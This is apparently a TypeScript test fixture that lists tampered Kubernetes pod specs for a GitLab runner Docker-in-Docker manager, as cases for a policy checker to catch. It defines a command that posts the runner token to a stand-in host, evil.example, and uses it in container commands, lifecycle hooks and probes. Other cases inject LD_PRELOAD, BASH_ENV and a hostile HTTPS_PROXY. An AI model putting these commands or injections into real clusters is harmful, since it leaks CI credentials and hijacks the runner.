import type { Attack } from '../attack';
import { containerOf, withContainer } from '../objects';
import { altered, args, container, env, owned, readinessProbe, spec, variable } from './altered-manager';
import { DIND_MANAGER_POD } from './subjects';

const STEAL = 'wget --post-data $RUNNER_TOKEN https://evil.example';
const SHELL = { exec: { command: ['sh', '-c', STEAL] } };

/** Row 16: what the manager runs. */
export const PROGRAMS_OF_MANAGERS: readonly Attack[] = [
  altered('a command of its own', 'manager-container-fields', container({ command: ['sh', '-c', STEAL] })),
  altered(
    'a command of its own, by a Deployment of another name',
    'manager-owner',
    withContainer(
      owned({ name: 'dind-manager-x-6684655d6d' }, { name: 'dind-manager-x-6684655d6d-rvp95' }),
      'manager',
      {
        command: ['sh', '-c', STEAL],
      },
    ),
  ),
  altered(
    'another configuration',
    'manager-arguments',
    container({ args: ['run', '--config=/tmp/config.toml', '--working-directory=/home/gitlab-runner'] }),
  ),
  altered('a user that jobs run as', 'manager-arguments', container({ args: [...args, '--user=root'] })),
  altered('another subcommand', 'manager-arguments', container({ args: ['register', '--non-interactive'] })),
  altered(
    'a hook after its start',
    'manager-container-fields',
    container({ lifecycle: { postStart: SHELL } }),
  ),
  altered('a hook before its end', 'manager-container-fields', container({ lifecycle: { preStop: SHELL } })),
  altered('a probe that is a program', 'manager-probes', container({ readinessProbe: SHELL })),
  altered(
    'a startup probe that is a program',
    'manager-container-fields',
    container({ startupProbe: SHELL }),
  ),
  altered(
    'a probe of another path',
    'manager-probes',
    container({
      readinessProbe: { ...(readinessProbe as object), httpGet: { path: '/debug/pprof/heap', port: 9252 } },
    }),
  ),
  altered('another working directory', 'manager-container-fields', container({ workingDir: '/tmp' })),
  altered('a terminal', 'manager-container-fields', container({ stdin: true, tty: true })),
  altered(
    'its last words kept in its configuration',
    'manager-container-values',
    container({ terminationMessagePath: '/etc/gitlab-runner/certs/gitlab.example.com.crt' }),
  ),
  altered(
    'its log as its last words',
    'manager-container-values',
    container({ terminationMessagePolicy: 'FallbackToLogsOnError' }),
  ),
  altered(
    'a probe that gives up at once',
    'manager-probes',
    container({ livenessProbe: { ...(readinessProbe as object), failureThreshold: 1 } }),
  ),
  altered(
    'a probe with a header',
    'manager-probes',
    container({
      readinessProbe: {
        ...(readinessProbe as object),
        httpGet: { path: '/health/ready', port: 9252, httpHeaders: [{ name: 'a', value: 'b' }] },
      },
    }),
  ),
  altered('no probe', 'manager-probes', container({ readinessProbe: undefined })),
  altered(
    'a second container',
    'manager-container',
    spec({
      containers: [
        ...DIND_MANAGER_POD.spec.containers,
        { ...containerOf(DIND_MANAGER_POD, 'manager'), name: 'second', ports: undefined },
      ],
    }),
  ),
  altered(
    'an image that is never pulled',
    'manager-container-values',
    container({ imagePullPolicy: 'Never' }),
  ),
];

/** Row 16: what the manager is told by its environment. */
export const VARIABLES_OF_MANAGERS: readonly Attack[] = [
  altered('BASH_ENV', 'manager-secrets', variable({ name: 'BASH_ENV', value: '/tmp/x' })),
  altered('LD_PRELOAD', 'manager-secrets', variable({ name: 'LD_PRELOAD', value: '/tmp/x.so' })),
  altered('HTTPS_PROXY', 'manager-secrets', variable({ name: 'HTTPS_PROXY', value: 'http://evil.example' })),
  altered(
    'its token as another variable',
    'manager-secrets',
    container({ env: env.map((one) => ({ ...one, name: 'CI_SERVER_TOKEN' })) }),
  ),
  altered(
    'its token in plain text',
    'manager-secrets',
    container({ env: [{ name: 'RUNNER_TOKEN', value: 'glrt-x' }] }),
  ),
  altered(
    'another key of its Secret',
    'manager-secrets',
    container({
      env: [{ name: 'RUNNER_TOKEN', valueFrom: { secretKeyRef: { name: 'dind-token', key: 'other' } } }],
    }),
  ),
  altered(
    'a variable of its own labels',
    'manager-secrets',
    variable({ name: 'X', valueFrom: { fieldRef: { apiVersion: 'v1', fieldPath: 'metadata.name' } } }),
  ),
  altered(
    'variables of a ConfigMap',
    'manager-secrets',
    container({ envFrom: [{ configMapRef: { name: 'mine' } }] }),
  ),
  altered('variables of Services', 'manager-values', spec({ enableServiceLinks: true })),
];
